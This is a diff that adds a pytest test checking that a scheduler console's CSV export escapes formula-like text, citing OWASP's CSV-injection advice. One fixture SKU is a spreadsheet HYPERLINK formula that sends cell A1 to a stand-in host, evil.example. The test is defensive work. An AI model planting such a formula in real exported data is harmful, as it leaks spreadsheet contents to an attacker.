@@ -7,6 +7,8 @@ The console's behaviour for a well-meaning user is in `test_console.py` (whose h
 
 from __future__ import annotations
 
+import io
+import json
 import re
 from collections.abc import Iterator
 from typing import Any
@@ -242,3 +244,38 @@ def test_grid_filters_travel_url_encoded_to_the_next_page_of_tiles() -> None:
     parsed = parse_qs(filters.query_string(), keep_blank_values=True)
 
     assert parsed == {"category": ["a&review=approved#+x"], "status": ["succeeded"], "review": ["pending"]}
+
+
+def test_the_csv_manifest_shows_formula_like_text_as_text() -> None:
+    """A tenant's SKU or error text that starts like a formula reaches the catalog team's spreadsheet as text
+    (`'` first, OWASP's CSV-injection advice); numbers and plain text are unchanged."""
+    import csv
+
+    from scheduler.console.jobs import csv_pieces
+
+    rows = [
+        {
+            "index": 0,
+            "sku": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+            "score": -0.5,
+            "status": "succeeded",
+        },
+        {"index": 1, "sku": "+1-555", "error": "@SUM(A1)", "status": "failed"},
+        {"index": 2, "sku": "-7", "category": "\tcoat", "status": "succeeded"},
+        {"index": 3, "sku": "SKU-3", "category": "coat", "status": "succeeded"},
+    ]
+    jsonl = b"".join(json.dumps(row).encode() + b"\n" for row in rows)
+    text = b"".join(csv_pieces([jsonl])).decode()
+    read = list(csv.DictReader(io.StringIO(text)))
+    assert [row["sku"] for row in read] == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"open")',
+        "'+1-555",
+        "'-7",
+        "SKU-3",
+    ]
+    assert (read[0]["score"], read[1]["error"], read[2]["category"], read[3]["category"]) == (
+        "-0.5",
+        "'@SUM(A1)",
+        "'\tcoat",
+        "coat",
+    )
